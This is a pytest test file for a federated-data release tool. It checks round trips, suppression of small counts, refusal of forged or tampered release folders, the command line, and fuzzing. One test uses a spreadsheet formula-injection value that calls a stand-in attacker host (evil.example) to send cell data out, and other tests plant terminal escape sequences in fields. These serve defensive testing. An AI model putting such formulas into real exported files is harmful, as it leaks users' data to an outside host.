from __future__ import annotations

import csv
import hashlib
import io
import json
import shutil
from dataclasses import dataclass, replace
from pathlib import Path
from typing import TYPE_CHECKING

import numpy as np
import pandas as pd
import pytest
import typer
from cases.release_cases import clustered
from federation.mutations import (
    content_of,
    mutate_folder,
)
from typer.testing import CliRunner

from silomix.cli.silo_side import inspect_command, release_command
from silomix.errors import FileError, MessageError
from silomix.messages import SampleLocally
from silomix.messages.container import HEAD
from silomix.messages.csv_tables import LARGEST_FILE, MOST_LINES, read_release_arrays
from silomix.messages.door import check_reply
from silomix.messages.folder import read, read_release, release_files, write_release
from silomix.model.schema import Schema, Shard, Variable
from silomix.model.table import infer_schema
from silomix.posterior.diagnosis import fingerprint
from silomix.silo.release import make_release
from silomix.simulate import simulate
from silomix.study import Study, digest, make_study, read_study, write_study
from silomix.study.policy import OPEN, PRESETS, Limits, Policy, echo, write_policy
from silomix.study.roster import read_roster

if TYPE_CHECKING:
    from silomix.messages import Release

DEFAULT = PRESETS["default"]
ROSTER = ["north", "south", "east"]
SIZES = (2, 3, 2, 4)
KINDS = {".csv", ".json", ".txt", ".png"}


@dataclass(frozen=True)
class Case:
    study: Study
    release: Release
    files: dict[str, bytes]


def make_case(
    seed, policy=DEFAULT, tier="summary", members=(203, 61, 15, 7), sizes=SIZES, draws=60
):
    local = clustered(np.random.default_rng(seed), list(members), sizes, draws=draws)
    schema = local.draws.shard.schema
    study = make_study(schema, ROSTER, tier=tier)
    release = make_release(
        local, silo="south", place=1, study=digest(study), tier=tier, policy=policy
    )
    return Case(study, release, release_files(release, schema))


@pytest.fixture(scope="module")
def summary():
    return make_case(1)


@pytest.fixture(scope="module")
def drawn():
    return make_case(2, OPEN, "draws")


@pytest.fixture(autouse=True)
def no_picture(monkeypatch):
    """Pictures take a while; those of `summary` and `drawn` are drawn before this."""
    monkeypatch.setattr("silomix.messages.release_notes.find_spec", lambda _: None)


def put(folder, files):
    folder.mkdir(exist_ok=True)
    for name, content in files.items():
        (folder / name).write_bytes(content)
    return folder


def forge(files, changed=(), **fields):
    """The files with some replaced, and a head that vouches for all that can be read."""
    files = files | dict(changed)
    document = json.loads(files.pop(HEAD))
    document["fields"] |= fields
    document["files"] = {name: hashlib.sha256(files[name]).hexdigest() for name in files}
    try:
        arrays, _ = read_release_arrays(files)
        document["content"] = content_of(document, arrays)
    except Exception:
        pass
    return files | {HEAD: json.dumps(document).encode()}


def arrive(folder, study):
    """The release in a folder, as the coordinator takes it in."""
    envelope, release = read(folder, study=study)
    check_reply(release, SampleLocally(), study, envelope.silo)
    return release


class TestRoundTrip:
    @pytest.mark.parametrize(
        ("policy", "tier"),
        [
            *((policy, "summary") for policy in PRESETS.values()),
            (OPEN, "draws"),
            (Policy(name="d", tiers=("draws",)), "draws"),
        ],
        ids=lambda value: getattr(value, "name", value),
    )
    def test_bit_for_bit(self, tmp_path, seed, policy, tier):
        case = make_case(seed, policy, tier)
        schema = case.study.table_schema
        files = write_release(case.release, tmp_path / "out", schema)
        back = arrive(tmp_path / "out", case.study)
        assert fingerprint(back) == fingerprint(case.release)
        assert sorted(files) == sorted((tmp_path / "out").iterdir())
        assert list(tmp_path.iterdir()) == [tmp_path / "out"]

    def test_the_same_bytes_every_time(self, summary, monkeypatch):
        monkeypatch.undo()
        assert "profile.png" in summary.files
        again = release_files(summary.release, summary.study.table_schema)
        assert again == summary.files

    def check_round_trip(self, folder, schema, seed):
        """Write a release with these names, and read the same back."""
        sizes = tuple(schema.sizes.tolist())
        local = clustered(np.random.default_rng(seed), [40, 30], sizes, draws=20)
        shard = Shard(schema, local.draws.shard.codes)
        local = replace(local, draws=replace(local.draws, shard=shard))
        study = make_study(schema, ROSTER, tier="draws")
        release = make_release(local, silo="north", place=0, study=digest(study), tier="draws")
        write_release(release, folder, schema)
        assert fingerprint(read(folder, study=study)[1]) == fingerprint(release)

    def test_wide_tables_go_on_in_another_file(self, tmp_path, seed):
        wide = make_case(seed, OPEN, "summary", (20, 20), (2,) * 1300, draws=10)
        assert "profile_2.csv" in wide.files
        put(tmp_path / "w", wide.files)
        assert fingerprint(arrive(tmp_path / "w", wide.study)) == fingerprint(wide.release)
        check_airlock(wide.files)

    def test_names_that_are_formulas_are_text_to_a_spreadsheet(self, tmp_path, seed):
        levels = ("+ve", "-1", "a;=1+1"), ("'=1+1", "+", "(-2, -1]", 'a "quoted", $name$, 数')
        link = '=HYPERLINK("http://evil.example/?"&A1,"x")'
        schema = Schema((Variable(link, levels[0]), Variable("@SUM(1)", levels[1])))
        self.check_round_trip(tmp_path / "r", schema, seed)
        assert read_release(tmp_path / "r")[1] == schema
        cells = {
            cell
            for path in (tmp_path / "r").glob("*.csv")
            for row in csv.reader(io.StringIO(path.read_text(), newline=""))
            for cell in row
        }
        assert not any(cell.startswith(("=", "@", "+v")) for cell in cells)
        assert not any(";=" in cell for cell in cells)
        assert {"'@SUM(1)", "'+ve", "-1", "''=1+1", "+", "a;'=1+1", "(-2, -1]"} <= cells
        written = f"'{link}"
        assert {written, f"{written}=+ve", f"{written}=a;'=1+1"} <= cells


def check_airlock(files):
    for name, content in files.items():
        assert Path(name).suffix in KINDS
        assert len(content) <= LARGEST_FILE
        if name.endswith(".csv"):
            assert content.count(b"\n") <= MOST_LINES


class TestWriting:
    def test_an_airlock_takes_it_and_details_of_checks_stay_inside(self, summary, drawn):
        check_airlock(summary.files)
        check_airlock(drawn.files)
        assert "203" not in summary.files["checks.csv"].decode()
        for case, words in (
            (summary, ["to the nearest 5", "not differential privacy", "small clusters folded"]),
            (drawn, ["usually to within one", "the policy has no rule"]),
        ):
            page = " ".join(case.files["README.txt"].decode().split())
            assert all(word in page for word in words)
            assert "203 to" not in page
            assert "clusters of 7 rows" not in page

    def test_what_is_in_the_way(self, tmp_path, summary):
        schema = summary.study.table_schema
        (tmp_path / "empty").mkdir()
        write_release(summary.release, tmp_path / "empty", schema)
        with pytest.raises(FileError, match="exists already; give another folder, or --force"):
            write_release(summary.release, tmp_path / "empty", schema)
        (tmp_path / "empty" / "README.txt").write_text("old")
        write_release(summary.release, tmp_path / "empty", schema, force=True)
        arrive(tmp_path / "empty", summary.study)
        (tmp_path / "mine").mkdir()
        (tmp_path / "mine" / "thesis.txt").write_text("years of work")
        with pytest.raises(FileError, match=r"exists already; give another folder$"):
            write_release(summary.release, tmp_path / "mine", schema, force=True)
        assert (tmp_path / "mine" / "thesis.txt").exists()
        assert {path.name for path in tmp_path.iterdir()} == {"empty", "mine"}


class TestScan:
    """No released count is under the policy's minimum, read as anyone would read the files."""

    @pytest.mark.parametrize("word", ["default", "opensafely", "ukllc", "omop", "pcornet"])
    @pytest.mark.parametrize("members", [(203, 61, 15, 7), (33, 32), (11,), (3000, 40, 9, 3, 2)])
    def test_no_small_count(self, seed, word, members):
        policy = PRESETS[word]
        files = make_case(seed, policy, members=members).files
        sizes = pd.read_csv(io.BytesIO(files["cluster_sizes.csv"]))
        profile = pd.read_csv(io.BytesIO(files["profile.csv"]))
        least, base = policy.minimum_count, policy.round_to
        assert (sizes["rows"] >= least).all()
        assert (sizes["rows"] % base == 0).all()
        assert sizes["rows"].sum() == json.loads(files[HEAD])["fields"]["rows"]
        told = profile[profile["basis"] != "uniform"]
        assert (told["count"] >= least).all()
        assert (told["count"] % base == 0).all()
        np.testing.assert_allclose(told["mean"] * told["of"], told["count"])
        assert (told["count"] <= told["of"]).all()
        own = told[told["basis"] == "cluster"]
        size = sizes["rows"].to_numpy()[own["cluster"]]
        assert (own["mean"] * size >= least - 1e-6).all()
        unsaid = profile[profile["basis"] == "uniform"]
        assert unsaid["count"].isna().all()
        assert (unsaid.groupby(["cluster", "variable"])["mean"].nunique() == 1).all()


def cells(files, name):
    return list(csv.reader(io.StringIO(files[name].decode())))


class TestRefusals:
    def refused(self, tmp_path, case, files, match=None):
        """Neither the coordinator takes it in, nor is it explained to anybody."""
        folder = put(tmp_path / "r", files)
        with pytest.raises(MessageError, match=match):
            arrive(folder, case.study)
        with pytest.raises(MessageError, match=match):
            read_release(folder)

    def test_what_is_forged_well_is_read(self, tmp_path, summary, drawn):
        for name, case in (("s", summary), ("d", drawn)):
            release = arrive(put(tmp_path / name, forge(case.files)), case.study)
            assert fingerprint(release) == fingerprint(case.release)

    def test_of_another_study_silo_or_schema(self, tmp_path, summary):
        other = make_study(summary.study.table_schema, ROSTER, tier="summary", seed=5)
        with pytest.raises(MessageError, match="is of study"):
            arrive(put(tmp_path / "r", summary.files), other)
        for fields in ({"silo": "west"}, {"place": 2}, {"tier": "draws"}):
            with pytest.raises(MessageError):
                arrive(put(tmp_path / "r", forge(summary.files, **fields)), summary.study)
        content = summary.files["profile.csv"].replace(b",v0,", b",sex,")
        with pytest.raises(MessageError, match="other variables or levels"):
            arrive(
                put(tmp_path / "r", forge(summary.files, {"profile.csv": content})), summary.study
            )

    @pytest.mark.parametrize(
        "fields",
        [
            {"rows": -1},
            {"rows": 5},
            {"policy": {}},
            {"policy": {"name": 3}},
            {"silo": "a\x1b[31m"},
            {"more": 1},
            {"diagnostics": {}},
            {"checks": [{"rule": "none"}]},
        ],
        ids=str,
    )
    def test_a_wrong_head(self, tmp_path, summary, fields):
        self.refused(tmp_path, summary, forge(summary.files, **fields))

    @pytest.mark.parametrize(
        ("name", "old", "new"),
        [
            ("cluster_sizes.csv", b"\n0,", b"\n1,"),
            ("cluster_sizes.csv", b"\n0,", b"\n0,1"),
            ("cluster_sizes.csv", b"cluster", b"group"),
            ("profile.csv", b",v0,", b",v1,"),
            ("profile.csv", b",cluster,", b",silo,"),
            ("profile.csv", b"v0,level 1", b"v0,level 0"),
            ("profile.csv", b"mean,conc", b"mean,spread,conc"),
            ("profile.csv", b"cluster,variable", b'cluster,"variable'),
            ("profile.csv", b",v0,", b",v\x1b[2J,"),
            ("profile.csv", b",v0,", b',"v\nw",'),
            ("checks.csv", b",10,", b",ten,"),
            ("checks.csv", b",10,", b",11,"),
            ("checks.csv", b",applied\n", b",applied,\n"),
            ("checks.csv", b",applied\n", b",applied\r\n"),
        ],
    )
    def test_a_vouched_for_file(self, tmp_path, summary, name, old, new):
        content = summary.files[name].replace(old, new, 1)
        assert content != summary.files[name]
        self.refused(tmp_path, summary, forge(summary.files, {name: content}))

    @pytest.mark.parametrize(
        ("column", "values"),
        [
            ("mean", ["nan", "1e999", "1_0", "-0.1", ""]),
            ("concentration", ["nan", "-3.0", "1e300", ""]),
            ("count", ["nan", "-0.1", "x"]),
            (None, [None]),
        ],
    )
    def test_a_number_that_cannot_be(self, tmp_path, summary, column, values):
        """In the first line; a concentration is in all lines of its variable."""
        for value in values:
            head, *rows = csv.reader(io.StringIO(summary.files["profile.csv"].decode()))
            if column is None:
                rows.pop()
            for row in [row for row in rows if column and row[:2] == rows[0][:2]]:
                if column == "concentration" or row is rows[0]:
                    row[head.index(column)] = value
            self.refused(
                tmp_path, summary, forge(summary.files, {"profile.csv": as_csv([head, *rows])})
            )

    def test_what_its_own_policy_forbids(self, tmp_path, seed, drawn):
        strict = echo(OPEN.model_copy(update={"tiers": ("summary",)}))
        self.refused(tmp_path, drawn, forge(drawn.files, policy=strict))
        even = Policy(name="l", minimum_count=5, round_to=5)
        for loose, case in (
            ("sizes", make_case(seed, Policy(name="l", minimum_count=10, round_to=1), sizes=(2,))),
            ("probabilities", make_case(seed, even, "summary", (200, 100))),
        ):
            files = forge(case.files, policy=echo(DEFAULT))
            with pytest.raises(MessageError):
                read_release(put(tmp_path / loose, files))

    def test_draws_that_cannot_be(self, tmp_path, drawn):
        for name in ("weights.csv", "probabilities.csv"):
            rows = cells(drawn.files, name)
            rows[5][2] = "0.125"
            self.refused(tmp_path, drawn, forge(drawn.files, {name: as_csv(rows)}), "sum to one")
            moved = drawn.files[name].replace(b"\n7,", b"\n8,", 1)
            self.refused(tmp_path, drawn, forge(drawn.files, {name: moved}))
        short = as_csv(cells(drawn.files, "weights.csv")[:-1])
        self.refused(tmp_path, drawn, forge(drawn.files, {"weights.csv": short}))
        (tmp_path / "r" / "weights.csv").unlink()
        files = {k: v for k, v in drawn.files.items() if k != "weights.csv"}
        self.refused(tmp_path, drawn, forge(files, {"weights_3.csv": drawn.files["weights.csv"]}))


def as_csv(rows):
    text = io.StringIO()
    csv.writer(text, lineterminator="\n").writerows(rows)
    return text.getvalue().encode()


@pytest.fixture(scope="module")
def commands():
    app = typer.Typer()
    app.command("release")(release_command)
    app.command("inspect")(inspect_command)
    return lambda *words: CliRunner().invoke(app, [str(word) for word in words])


@pytest.fixture(scope="module")
def place(tmp_path_factory):
    """A table of two hospitals, and the study files of two tiers."""
    folder = tmp_path_factory.mktemp("silo")
    table, _ = simulate("nested", rows=400, silos=2, seed=3)
    table.to_csv(folder / "table.csv", index=False)
    schema = infer_schema(table, silo="silo")
    names = read_roster(table, "silo").names
    for tier in ("summary", "draws"):
        study = make_study(schema, names, tier=tier, iterations=400, chains=1, components=8)
        write_study(study, folder / f"{tier}.toml")
    return folder


class TestCommands:
    def options(self, place, tier="summary", policy="default"):
        silo = read_study(place / f"{tier}.toml").silos[0]
        return (
            *("release", place / "table.csv", "--study", place / f"{tier}.toml"),
            *("--silo", silo, "--silo-column", "silo", "--policy", policy),
        )

    def test_release_and_inspect(self, tmp_path, place, commands):
        out = tmp_path / "out"
        write_policy(Policy(name="ours", minimum_count=20), tmp_path / "p.toml")
        made = commands(*self.options(place, policy=tmp_path / "p.toml"), "--out", out, "--json")
        assert made.exit_code == 0, made.output
        told = json.loads(made.stdout)
        study = read_study(place / "summary.toml")
        release = arrive(out, study)
        assert told["sizes"] == release.sizes.tolist()
        assert told["policy"]["name"] == "ours"
        assert min(told["sizes"]) >= 20
        assert all(check["inside"] == "" for check in told["checks"])
        assert sorted(told["files"]) == sorted(map(str, out.iterdir()))

        shown = commands("inspect", out)
        assert shown.exit_code == 0, shown.output
        words = " ".join(shown.stdout.split())
        assert "What a recipient could infer" in words
        assert "to the nearest 5" in words
        assert "Every file fits its checksum" in words
        record = json.loads(commands("inspect", out, "--json").stdout)
        assert record["sizes"] == told["sizes"]
        assert record["explanation"] == told["explanation"]

        with pytest.MonkeyPatch.context() as patch:
            patch.setattr("silomix.cli.silo_side.sample_rows", None)  # refused before it samples
            again = commands(*self.options(place), "--out", out)
        assert again.exit_code == 5
        assert "exists already" in again.stderr
        once_more = self.options(place, policy=tmp_path / "p.toml")
        assert commands(*once_more, "--out", out, "--force").exit_code == 0
        rounded = commands(*self.options(place), "--out", out, "--force")
        assert rounded.exit_code == 6
        assert "with another rounding, 20, 5" in " ".join(rounded.stderr.split())

    def test_dry_run_shows_details_and_writes_nothing(self, place, commands):
        before = sorted(place.iterdir())
        shown = commands(*self.options(place), "--dry-run")
        assert shown.exit_code == 0, shown.output
        assert "no probability moved by more than" in " ".join(shown.stdout.split())
        assert "Nothing was written." in shown.stdout
        record = json.loads(commands(*self.options(place), "--dry-run", "--json").stdout)
        assert any(" to " in check["inside"] for check in record["checks"])
        assert "files" not in record
        assert sorted(place.iterdir()) == before

    def test_what_cannot_be_done(self, tmp_path, place, commands):
        neither = commands(*self.options(place))
        assert neither.exit_code == 2
        assert "--dry-run to see it first" in " ".join(neither.stderr.split())
        forbidden = commands(*self.options(place, "draws"), "--out", tmp_path / "r")
        assert forbidden.exit_code != 0
        assert "asks for a release of tier 'draws'" in forbidden.stderr
        unknown = commands(*self.options(place, policy="strict"), "--dry-run")
        assert unknown.exit_code == 4
        assert "there is no policy 'strict'" in unknown.stderr
        assert not (tmp_path / "r").exists()
        write_policy(Policy(limits=Limits(sweeps=100)), tmp_path / "short.toml")
        beyond = commands(*self.options(place, policy=tmp_path / "short.toml"), "--dry-run")
        assert beyond.exit_code == 6
        assert "sets iterations to 400" in " ".join(beyond.stderr.split())
        damaged = commands("inspect", tmp_path)
        assert damaged.exit_code == 5
        assert "message.json is missing" in " ".join(damaged.stderr.split())


def check_sane(release, study):
    """What is accepted is a release that the rest may rely on."""
    offsets = study.table_schema.offsets
    assert release.sizes.min() >= 1
    assert release.sizes.sum() == release.rows
    assert release.mean.shape == (release.clusters, offsets[-1])
    for array in (release.mean, release.medians, release.concentration, release.effective_counts):
        assert np.isfinite(array).all()
    sums = np.add.reduceat(release.mean, offsets[:-1], axis=1)
    np.testing.assert_allclose(sums, 1.0, atol=1e-4)
    assert Policy(**release.policy)


class TestFuzz:
    def fuzz(self, folder, case, rng, times):
        good, wrong, refused = put(folder / "good", case.files), folder / "wrong", 0
        for _ in range(times):
            shutil.copytree(good, wrong)
            mutate_folder(wrong, [good], rng)
            try:
                check_sane(arrive(wrong, case.study), case.study)
            except MessageError:
                refused += 1
            shutil.rmtree(wrong)
        assert refused > 0.7 * times

    def test_mutations_are_refused_or_harmless(self, tmp_path, summary, seed):
        rng = np.random.default_rng([seed, 4])
        self.fuzz(tmp_path, summary, rng, 100)

    @pytest.mark.slow
    @pytest.mark.parametrize("block", range(10), ids="block{}-".format)
    def test_a_thousand(self, tmp_path, summary, drawn, seed, block):
        rng = np.random.default_rng([seed, 5, block])
        self.fuzz(tmp_path, drawn if block % 2 else summary, rng, 1000)
